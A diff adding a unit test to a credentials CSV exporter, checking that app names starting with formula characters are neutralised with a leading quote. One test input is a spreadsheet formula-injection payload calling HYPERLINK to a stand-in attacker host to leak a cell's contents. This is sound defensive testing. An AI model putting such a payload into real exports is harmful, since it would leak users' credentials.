@@ -58,4 +58,13 @@ describe('credentialsCsv', () => {
     const csv = credentialsCsv('A "quoted",\nname', { clientId: 'ring_cid_1', clientSecret: 'ring_csec_2', hmacSignatureKey: 'ring_hmac_3' });
     expect(csv).toBe('App name,Client ID,Client Secret,HMAC Signature Key\r\n"A ""quoted"",\nname",ring_cid_1,ring_csec_2,ring_hmac_3\r\n');
   });
+
+  it('defuses an app name a spreadsheet would run as a formula', () => {
+    const plain = { clientId: 'ring_cid_1', clientSecret: 'ring_csec_2', hmacSignatureKey: 'ring_hmac_3' };
+    for (const name of ['=HYPERLINK("https://evil.example/?"&A2,"x")', '+1+1', '-2+3', '@SUM(1)']) {
+      const record = credentialsCsv(name, plain).split('\r\n')[1]!;
+      expect(record.replace(/^"/, ''), name).toMatch(/^'/);
+    }
+    expect(credentialsCsv('Home Guardian', plain).split('\r\n')[1]).toBe('Home Guardian,ring_cid_1,ring_csec_2,ring_hmac_3');
+  });
 });
